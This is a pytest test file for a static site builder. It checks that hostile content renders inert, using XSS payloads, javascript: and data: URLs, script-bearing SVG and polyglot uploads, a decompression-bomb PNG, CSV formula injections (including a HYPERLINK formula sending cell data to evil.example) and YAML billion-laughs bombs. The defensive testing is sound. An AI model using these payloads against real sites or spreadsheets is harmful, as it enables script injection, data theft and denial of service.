"""Hostile text renders inert: a corpus of HTML, script, Markdown, attribute, template and
table breakers, very long Thai runs, control characters and right-to-left marks is put
at the start and at the end of every free-text field of the content, the site is built
with `mkdocs build`, and every page must keep the structure of the clean build:

- no <script>, iframe, object, embed, style, form, base or meta element from content;
- no on* event attribute, no javascript:/vbscript:/data: URL, no link or image to the
  corpus's host (evil.example) in any attribute;
- the same pages, heading ids and tables (rows × cells) as the clean build;
- the corpus text is shown as text (not dropped), template syntax is not evaluated;
- no Nu HTML checker error that the clean build does not have (the theme's own errors
  are test_html.py's business).

Two sites: the mini fixture once per corpus entry (each entry around every field, built
--strict), and the demo with the whole corpus before every field (every section the demo
renders; any build warning the clean demo does not have fails).

Run alone:  .venv/bin/pytest tests/quality/test_hostile.py
"""

from __future__ import annotations

import hashlib
import logging
import os
import re
import shutil
import urllib.parse
from collections import Counter
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from quality_support import ROOT, vnu, vnu_report
from site_builder.errors import ContentError
from site_builder.load import load_all
from site_builder.site import SECTIONS

MINI = ROOT / "tests" / "fixtures" / "mini"

# Every entry is appended (after a space) to every free-text field. No entry holds 9+
# digits in a row: the privacy scan must stay quiet.
CORPUS: list[str] = [
    '<script>alert("x")</script>',
    "<img src=https://evil.example/x.png onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "[คลิกที่นี่](javascript:alert(1)) <javascript:alert(1)> <https://evil.example/auto>",
    "![รูป](https://evil.example/pixel.png) [ลิงก์](https://evil.example/phish)",
    "[อ้างอิง][r]\n\n[r]: https://evil.example/ref",
    "**ตัวหนา** __หนา__ *เอียง* _เอียง_ `โค้ด` ~~ขีดฆ่า~~ ==เน้น== ^^ยก^^",
    "| หัว | ตาราง |\n|---|---|\n| แทรก | แถว |",
    "a | b || c \\| d |",
    "# หัวข้อปลอม\n## หัวข้อย่อย {#evil-id}\n- รายการ\n1. ลำดับ\n> อ้างอิง\n---\n===\n    code block",
    "{: onclick=\"alert(1)\" .evil #evil-attr } {#evil-heading} {.evil}",
    "<!-- ความเห็นที่ไม่ปิด",
    "<![CDATA[ x ]]> ]]> --> <?php echo 1; ?>",
    "&lt;script&gt; &amp; &#60;b&#62; &#x3C;i&#x3E; &nbsp; &copy",
    "{{ 7*7 }} {% raw %}{% endraw %} {# c #} ${7*7} #{7*7} {{ config }}",
    "</td></tr></table></div></article><div class=evil>",
    "</title></textarea></noscript></style></script><script>alert(2)</script>",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x><form action=x><input></form>",
    '<a href="https://evil.example/raw" target=_blank>ลิงก์ดิบ</a><base href="https://evil.example/">',
    "\\*ไม่เอียง\\* \\\\ \\` \\<b>",
    "[^1] [^1]: เชิงอรรถ *[HTML]: ตัวย่อ :smile: ++ctrl++ $$x$$",
    "ก" * 3000,
    "ประกาศเทศบาลตำบลเรื่องการจัดซื้อจัดจ้างโครงการก่อสร้างถนนคอนกรีตเสริมเหล็กหมู่ที่สี่" * 40,
    "https://evil.example/" + "ก" * 500 + "/" + "a" * 1500,
    "ควบคุม\x00\x01\x07\x08\x0b\x0c\x1b[31m\x7f\x85\u2028\u2029ท้าย\r\nบรรทัดใหม่\rCR",
    "\u202eขวาไปซ้าย\u202c \u2067แยก\u2069 \u200fRLM\u200e \u061cALM \u202dLRO\u202c \u202bRLE",
    "ศูนย์\u200bกว้าง\u200c\u200d\ufeff\u00ad\u2060\u180e",
    "ก\u0e48\u0e48\u0e48\u0e34\u0e34\u0e4d\u0e32 \u0301\u0300 e\u0301 Z\u0351\u0353\u0354\u0355",
    "\U0001F600\U0001F9D1\u200d\U0001F4BB 𝕏 \ud7ff",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]
# Shown literally as text somewhere on the hostile pages (so escaping did not drop them).
MUST_SHOW = ["<script>alert(", "{{ 7*7 }}", "**ตัวหนา**", "| หัว | ตาราง |", "{: onclick=", "<!-- ความเห็น",
             "&lt;script&gt;", "</td></tr></table>"]

# Fields that hold identifiers, paths, dates, choices or numbers, not free text.
NOT_TEXT = {"file", "photo", "logo", "role", "side", "date", "covers", "from", "to", "since", "until", "website",
            "url", "map_url", "postcode", "itas_code", "digits", "primary", "accent", "status", "language", "tool",
            "type", "id", "topic", "item", "round", "year", "issue", "level"}


# ---------------------------------------------------------------- injecting


def _leaves(node, loc=()):
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _leaves(value, loc + (key,))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from _leaves(value, loc + (index,))
    else:
        yield loc, node


def _set(node, loc, value):
    for part in loc[:-1]:
        node = node[part]
    node[loc[-1]] = value


def _path(loc) -> str:
    text = ""
    for part in loc:
        text += f"[{part}]" if isinstance(part, int) else (f".{part}" if text else str(part))
    return text


class _DateKeepingLoader(yaml.SafeLoader):
    """Dates stay text, as the site's own loader reads them (2567-03-31 is a BE date)."""


_DateKeepingLoader.yaml_implicit_resolvers = {
    k: [(tag, rx) for tag, rx in v if tag != "tag:yaml.org,2002:timestamp"]
    for k, v in yaml.SafeLoader.yaml_implicit_resolvers.items()
}


def inject(project: Path, text: str, where: str = "both") -> int:
    """Put `text` before and after (where="both") or before ("prefix") every free-text
    string in content/**/*.yml; returns the number of fields changed. At the start of a
    field hostile text meets block syntax (#, -, 1., >, |), at the end inline syntax.
    ("prefix" keeps a rule that looks for a name inside another field, the executive in an
    announcement's `signed_by`, satisfied.)

    A field the models reject with the text appended (an id, a choice) is put back, so the
    content stays valid and the build shows what the templates do with the rest.
    """
    files = sorted((project / "content").rglob("*.yml"))
    data = {p: yaml.load(p.read_text(encoding="utf-8"), Loader=_DateKeepingLoader) for p in files}
    changed: dict[tuple[Path, tuple], object] = {}
    for path, doc in data.items():
        for loc, value in _leaves(doc):
            name = next((p for p in reversed(loc) if isinstance(p, str)), "")
            if not isinstance(value, str) or name in NOT_TEXT or (name == "kind" and path.name != "agency.yml"):
                continue
            _set(doc, loc, f"{text} {value} {text}" if where == "both" else f"{text} {value}")
            changed[(path, loc)] = value
    for _ in range(20):
        for path, doc in data.items():
            path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False, width=10_000), encoding="utf-8")
        try:
            load_all(project / "content", project / "data", SECTIONS, None, root=project)
            return len(changed)
        except ContentError as err:
            reverted = 0
            for problem in err.problems:
                target = project / str(problem.file)
                for (path, loc), original in list(changed.items()):
                    if path == target and (not problem.field or _path(loc).startswith(problem.field)):
                        _set(data[path], loc, original)
                        del changed[(path, loc)]
                        reverted += 1
            if not reverted:
                raise
    raise AssertionError("could not make the hostile content valid")


def build(project: Path, site: Path, strict: bool = True) -> list[str]:
    """mkdocs build (--strict by default) in this process, faster than a new interpreter per
    build; returns the warnings of a non-strict build."""
    from mkdocs.commands.build import build as mkdocs_build
    from mkdocs.config import load_config

    os.environ.setdefault("NO_MKDOCS_2_WARNING", "1")
    warnings: list[str] = []

    class Collect(logging.Handler):
        def emit(self, record):
            if record.levelno >= logging.WARNING:
                warnings.append(f"{record.name}: {record.getMessage()}")

    handler = Collect()
    logging.getLogger("mkdocs").addHandler(handler)
    cwd = os.getcwd()
    try:
        os.chdir(project)
        config = load_config(str(project / "mkdocs.yml"), site_dir=str(site), strict=strict)
        mkdocs_build(config)
    except BaseException as err:  # mkdocs' Abort is a SystemExit
        pytest.fail(f"mkdocs build --strict failed on hostile content: {err!r}\n" + "\n".join(warnings),
                    pytrace=False)
    finally:
        os.chdir(cwd)
        logging.getLogger("mkdocs").removeHandler(handler)
    if strict:
        assert not warnings, warnings
    return warnings


# ---------------------------------------------------------------- reading pages

DANGEROUS_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "form", "input",
                  "button", "textarea", "select", "base", "meta", "link", "math", "template", "portal"}
URL_ATTRS = {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "background",
             "cite", "longdesc", "ping", "manifest", "content"}
BAD_URL = re.compile(r"^\s*(javascript|vbscript|data)\s*:", re.I)


def _host(url: str) -> str | None:
    try:
        return urllib.parse.urlsplit(url.strip().split(" ")[0]).hostname
    except ValueError:
        return None


@dataclass
class Shape:
    """What content must never change in a page: its active parts and its structure."""

    tags: Counter = field(default_factory=Counter)
    scripts: list[str] = field(default_factory=list)
    headings: list[str] = field(default_factory=list)
    tables: list[list[int]] = field(default_factory=list)
    bad: list[str] = field(default_factory=list)
    text: list[str] = field(default_factory=list)


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.shape = Shape()
        self.in_script = False
        self.script_src = ""
        self.script = ""
        self.rows: list[int] | None = None
        self.table_stack: list[list[int]] = []

    def handle_starttag(self, tag, attrs):
        s = self.shape
        if tag in ("title", "textarea"):
            # RCDATA in HTML: browsers read everything up to </title> as text, so must we.
            self.set_cdata_mode(tag)
        if tag in DANGEROUS_TAGS:
            s.tags[tag] += 1
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                s.bad.append(f"<{tag} {name}=…>")
            if name in URL_ATTRS and BAD_URL.match(value) and not (tag == "img" and value.startswith("data:image/")):
                s.bad.append(f"<{tag} {name}={value[:60]!r}>")
            if name in URL_ATTRS and any(_host(part) == "evil.example" for part in value.split(",")):
                s.bad.append(f"<{tag} {name}={value[:60]!r}> (link to a host from content)")
            if name in ("class", "id") and "evil" in value:
                s.bad.append(f"<{tag} {name}={value!r}> (attribute from content)")
        if tag == "script":
            self.in_script, self.script_src, self.script = True, dict(attrs).get("src") or "", ""
        if re.fullmatch(r"h[1-6]", tag):
            s.headings.append(dict(attrs).get("id") or "")
        if tag == "table":
            self.table_stack.append([])
        elif tag == "tr" and self.table_stack:
            self.table_stack[-1].append(0)
        elif tag in ("td", "th") and self.table_stack and self.table_stack[-1]:
            self.table_stack[-1][-1] += 1

    def handle_endtag(self, tag):
        if tag == "script" and self.in_script:
            # a script file by its address, an inline script by a hash of its text
            self.shape.scripts.append(self.script_src or hashlib.sha1(self.script.encode()).hexdigest()[:10])
            self.in_script = False
        if tag == "table" and self.table_stack:
            self.shape.tables.append(self.table_stack.pop())

    def handle_data(self, data):
        if self.in_script:
            self.script += data
        else:
            self.shape.text.append(data)


def shape(html: str) -> Shape:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.shape


def pages(site: Path) -> dict[str, str]:
    return {p.relative_to(site).as_posix(): p.read_text(encoding="utf-8") for p in sorted(site.rglob("*.html"))}


def compare(clean: dict[str, str], hostile: dict[str, str], label: str) -> list[str]:
    """Differences that content must not be able to cause, one line per kind of difference
    with the pages it occurs on."""
    found: dict[str, list[str]] = {}

    def add(problem: str, page: str) -> None:
        found.setdefault(f"{label}: {problem}", []).append(page)

    if set(clean) != set(hostile):
        add(f"pages differ: added {sorted(set(hostile) - set(clean))}, missing {sorted(set(clean) - set(hostile))}", "")
    for name in sorted(set(clean) & set(hostile)):
        a, b = shape(clean[name]), shape(hostile[name])
        if a.tags != b.tags:
            add(f"elements from content: {dict(b.tags - a.tags)} (lost: {dict(a.tags - b.tags)})", name)
        if len(a.scripts) != len(b.scripts):
            add(f"{len(b.scripts) - len(a.scripts)} more <script> elements than the clean build", name)
        for bad in dict.fromkeys(b.bad):
            if bad not in a.bad:
                add(f"active attribute {bad}", name)
        if a.headings != b.headings:
            add(f"headings changed: added {[h for h in b.headings if h not in a.headings]}, "
                f"lost {[h for h in a.headings if h not in b.headings]}", name)
        if a.tables != b.tables:
            add(f"tables changed (cells per row): clean {a.tables} hostile {b.tables}", name)
    lines = []
    for problem, where in found.items():
        where = [w for w in where if w]
        more = f" … +{len(where) - 4}" if len(where) > 4 else ""
        lines.append(f"{problem}" + (f"  [{len(where)} pages: {', '.join(where[:4])}{more}]" if where else ""))
    return lines


def new_html_errors(clean_site: Path, hostile_sites: list[Path]) -> list[str]:
    """Nu HTML checker errors of the hostile builds that the clean build does not have
    (the theme's own errors are test_html.py's business, not this test's)."""
    errors = vnu([clean_site, *hostile_sites])

    def key(m, site):
        return str(Path(m.get("url", "").removeprefix("file:")).relative_to(site)), m.get("message", "")

    clean = {key(m, clean_site) for m in errors if m.get("url", "").startswith(f"file:{clean_site}/")}
    new = []
    for site in hostile_sites:
        mine = [m for m in errors if m.get("url", "").startswith(f"file:{site}/")]
        new += [m for m in mine if key(m, site) not in clean]
    if not new:
        return []
    root = Path(os.path.commonpath([clean_site, *hostile_sites]))
    return [f"{len(new)} errors:\n" + vnu_report(new, root, examples=2)]


# ---------------------------------------------------------------- the sites


def copy_project(source: Path, target: Path) -> Path:
    shutil.copytree(source, target, ignore=shutil.ignore_patterns(".venv", "site", ".git", "node_modules",
                                                                  "__pycache__", "tests", ".hypothesis"))
    return target


@pytest.fixture(scope="module")
def mini_clean(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-mini")
    project = copy_project(MINI, root / "clean")
    build(project, project / "site")
    return root, project / "site"


SHARDS = 3


@pytest.mark.slow
@pytest.mark.parametrize("shard", range(SHARDS))
def test_each_hostile_string_in_every_field_of_the_mini_site(mini_clean, shard):
    root, clean_site = mini_clean
    clean = pages(clean_site)
    problems, sites, shown = [], [], ""
    for index in range(shard, len(CORPUS), SHARDS):
        project = copy_project(MINI, root / f"entry-{index}")
        changed = inject(project, CORPUS[index])
        assert changed >= 10, f"only {changed} fields took the hostile text"
        build(project, project / "site")
        hostile = pages(project / "site")
        problems += compare(clean, hostile, f"corpus[{index}] {CORPUS[index][:40]!r}")
        shown += "".join("".join(shape(html).text) for html in hostile.values())
        sites.append(project / "site")
    problems += [f"invalid HTML caused by content:\n{report}" for report in new_html_errors(clean_site, sites)]
    for needle in MUST_SHOW:
        if needle not in shown and any(needle.startswith(CORPUS[i][:12]) or needle in CORPUS[i]
                                       for i in range(shard, len(CORPUS), SHARDS)):
            problems.append(f"the text {needle!r} is not shown on any page (dropped instead of escaped?)")
    if "49" in shown and "{{ 7*7 }}" not in shown and any("7*7" in CORPUS[i] for i in range(shard, len(CORPUS), SHARDS)):
        problems.append("template syntax in content was evaluated ({{ 7*7 }} became 49)")
    if problems:
        pytest.fail("hostile content is not inert:\n  " + "\n  ".join(problems), pytrace=False)


@pytest.mark.slow
def test_whole_corpus_in_every_field_of_the_demo(built, tmp_path):
    """Every section the demo renders, with every hostile string at once in every field
    (the very long runs are left to the mini site: they would only make this test slow).

    Built without --strict to see every problem at once; any warning the clean build does
    not have fails (a link or anchor MkDocs found in content, or a completeness gap when a
    rule compares a field that should be in NOT_TEXT)."""
    clean = copy_project(built.project, tmp_path / "clean")
    clean_warnings = set(build(clean, clean / "site", strict=False))
    project = copy_project(built.project, tmp_path / "demo")
    changed = inject(project, " ".join(c for c in CORPUS if len(c) < 500), where="prefix")
    assert changed >= 100, f"only {changed} fields took the hostile text"
    warnings = build(project, project / "site", strict=False)
    hostile = pages(project / "site")
    problems = compare(pages(clean / "site"), hostile, "demo")
    problems += [f"demo: build warning caused by content: {w[:300]}" for w in warnings if w not in clean_warnings]
    shown = "".join("".join(shape(html).text) for html in hostile.values())
    problems += [f"the text {needle!r} is not shown on any page" for needle in MUST_SHOW if needle not in shown]
    problems += [f"invalid HTML caused by content:\n{report}" for report in new_html_errors(clean / "site", [project / "site"])]
    if problems:
        pytest.fail("hostile content is not inert:\n  " + "\n  ".join(problems), pytrace=False)


# ---------------------------------------------------------------- uploads, spreadsheets, aliases
# Files and cells reach readers by other ways than the pages: an uploaded file is served under
# the agency's domain, a CSV opens in the reader's spreadsheet. A hostile one must stop the
# build with its YAML line, before site/ is touched, or be published inert.


def _png_bomb() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0" * 100_000)) + chunk(b"IEND", b""))


_SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>'
# (file under content/files, bytes, the YAML that names it: file, old text, new text)
UPLOADS = {
    "svg evidence named .pdf": ("plans/annual-2567.pdf", _SVG, None),
    "html evidence named .pdf": ("plans/annual-2567.pdf", b"<!doctype html><script>location='https://evil.example'</script>", None),
    "empty pdf": ("plans/annual-2567.pdf", b"", None),
    "svg evidence": ("plans/plan.svg", _SVG, ("content/plans.yml", "plans/annual-2567.pdf", "plans/plan.svg")),
    "html evidence": ("plans/plan.html", b"<p>x</p>", ("content/plans.yml", "plans/annual-2567.pdf", "plans/plan.html")),
    "svg logo": ("logo.svg", _SVG, ("content/agency.yml", "itas_code: TEST01", "itas_code: TEST01\nlogo: logo.svg")),
    "gif+html polyglot photo": ("people/mayor.jpg", b"GIF89a/*\x01\x00\x01\x00*/=1;<script>alert(1)</script>", None),
    "truncated photo": ("people/mayor.jpg", None, None),  # the real portrait cut in half
    "decompression bomb photo": ("people/mayor.jpg", _png_bomb(), None),
    "text as photo": ("people/deputy.jpg", b"not an image", None),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", list(UPLOADS))
def test_hostile_upload_stops_the_build_before_site_is_touched(mini, case):
    name, data, reference = UPLOADS[case]
    assert mini.build().returncode == 0
    before = mini.site_digest()
    target = mini.file(f"content/files/{name}")
    if data is None:
        data = target.read_bytes()[: target.stat().st_size // 2]
    target.write_bytes(data)
    if reference:
        mini.edit(*reference)
    result = mini.build()
    out = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in out, out
    assert re.search(r"content/\w+\.yml บรรทัดที่ \d+ · (.+ · )?ช่อง (file|photo|logo):", out), out
    assert mini.site_digest() == before


def test_no_published_file_is_active_content(built):
    """Whatever the demo publishes under files/, photos/ and brand/ is a document or an image."""
    from site_builder.uploads import sniff

    active = [p.relative_to(built.site).as_posix() for folder in ("files", "photos", "brand")
              for p in (built.site / folder).rglob("*") if p.is_file() and sniff(p.read_bytes()[:2048]) == "active"]
    assert not active


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1;"คลิก")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1\n=2+2"]


@pytest.mark.slow
def test_published_csvs_carry_no_formula_from_hostile_cells(mini):
    import csv
    import io

    header = ["งานที่ซื้อหรือจ้าง", "วงเงินที่จะซื้อหรือจ้าง", "วิธีซื้อหรือจ้าง", "ผู้ได้รับการคัดเลือก",
              "ราคาที่ตกลงซื้อหรือจ้าง", "เหตุผลที่คัดเลือกโดยสรุป", "เลขที่สัญญา", "วันที่สัญญา", "หมายเหตุ"]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    for i, text in enumerate(FORMULAS + [c for c in CORPUS if len(c) < 500 and "\x00" not in c]):
        writer.writerow([text, "1000", text, text, "900", text, f"{text}/{i}", "2567-01-15", text])
    mini.write("content/procurement/2567.csv", out.getvalue())
    result = mini.build(strict=False)
    assert result.returncode == 0, result.stderr
    published = sorted(mini.file("site").rglob("*.csv"))
    assert len(published) >= 2
    live = [(p.name, cell[:40]) for p in published
            for row in csv.reader(io.StringIO(p.read_text(encoding="utf-8-sig"))) for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-\d[\d,]*(\.\d+)?", cell)]
    assert not live


ALIAS_BOMBS = {
    "billion laughs in a text field": "duties:\n  - text: &a [ฮา, ฮา, ฮา, ฮา, ฮา, ฮา, ฮา, ฮา, ฮา]\n"
    + "".join(f"  - text: &{n} [{', '.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefghi", "bcdefghij")),
    "billion laughs in an org chart": "political:\n  - &u0 {name: ก, head: ข}\n"
    + "".join(f"  - &u{i} {{name: ก, head: ข, units: [{', '.join([f'*u{i - 1}'] * 9)}]}}\n" for i in range(1, 10)),
    "long text repeated by aliases": "duties:\n  - text: &t " + "ก" * 100_000 + "\n"
    + "".join("  - text: *t\n" for _ in range(300)),
    "999 levels": "duties:\n  - text: " + "[" * 999 + "]" * 999 + "\n",
}


@pytest.mark.slow
@pytest.mark.parametrize("case", list(ALIAS_BOMBS))
def test_yaml_that_explodes_stops_the_build_quickly_with_its_line(mini, case):
    import time

    assert mini.build().returncode == 0
    before = mini.site_digest()
    mini.write("content/structure.yml", ALIAS_BOMBS[case])
    start = time.monotonic()
    result = mini.build()
    out = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in out, out
    assert re.search(r"content/structure\.yml บรรทัดที่ \d+", out) and len(out) < 5000, out[:2000]
    assert time.monotonic() - start < 60
    assert mini.site_digest() == before
